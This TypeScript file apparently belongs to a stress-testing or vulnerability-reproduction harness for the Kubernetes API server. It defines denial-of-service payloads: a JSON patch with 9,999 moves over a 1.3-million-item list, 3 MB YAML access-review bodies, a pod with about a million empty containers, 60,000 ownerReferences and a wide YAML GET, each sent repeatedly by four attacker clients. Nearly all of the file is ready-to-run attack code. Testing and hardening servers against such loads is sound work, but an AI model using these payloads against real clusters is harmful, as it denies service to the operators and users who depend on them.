import { filled } from '../worst/request';
import type { Attack } from './attack';
import { SMALL, WIDE } from './stored';
import type { Request } from './victim';
import { NOISY } from './victim';

const REVIEW = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews';
const MOVES = 9_999;
const ITEMS = 1_300_000;

/** Patches and bodies of 3 MB, each sent as soon as the last one is answered. */
export const LARGE_BODIES: readonly Attack[] = [
  repeated('F2: JSON patch that moves 9,999 times in a list of 1,300,000', () => ({
    method: 'PATCH',
    path: `${SMALL}?dryRun=All`,
    headers: { 'content-type': 'application/json-patch+json' },
    body: Buffer.from(
      `[{"op":"add","path":"/a","value":[${'0,'.repeat(ITEMS - 1)}0]}${',{"op":"move","from":"/a/0","path":"/a/-"}'.repeat(MOVES)}]`,
    ),
  })),
  repeated('F4: YAML of 3 MB, for a review of access', () => yamlReview('')),
  repeated('F4: the same, strict', () => yamlReview('?fieldValidation=Strict')),
  repeated('F4: a pod of a million empty containers', () => ({
    method: 'POST',
    path: `/api/v1/namespaces/${NOISY}/pods?dryRun=All`,
    body: Buffer.from(
      filled({ begin: '{"metadata":{"name":"w"},"spec":{"containers":[', item: '{}', end: ']}}' }),
    ),
  })),
  repeated('F4: 60,000 ownerReferences', () => ({
    method: 'POST',
    path: `/api/v1/namespaces/${NOISY}/configmaps?dryRun=All`,
    body: Buffer.from(
      filled({
        begin: '{"metadata":{"name":"w","ownerReferences":[',
        item: '{"uid":"u","apiVersion":"v1","kind":"a","name":"b"}',
        end: ']}}',
      }),
    ),
  })),
  repeated('F4: GET of 60,000 keys as YAML', () => ({ path: WIDE, headers: { accept: 'application/yaml' } })),
];

/** Four clients of the attacker send it repeatedly. */
function repeated(name: string, make: () => Request): Attack {
  let made: Request | undefined;
  return {
    name,
    atOnce: 4,
    round: async (victim, signal) => {
      made ??= make();
      await victim.ask(made, signal);
    },
  };
}

function yamlReview(query: string): Request {
  return {
    method: 'POST',
    path: `${REVIEW}${query}`,
    headers: { 'content-type': 'application/yaml' },
    body: Buffer.from(filled({ begin: 'a: [', item: '0', end: ']' })),
  };
}
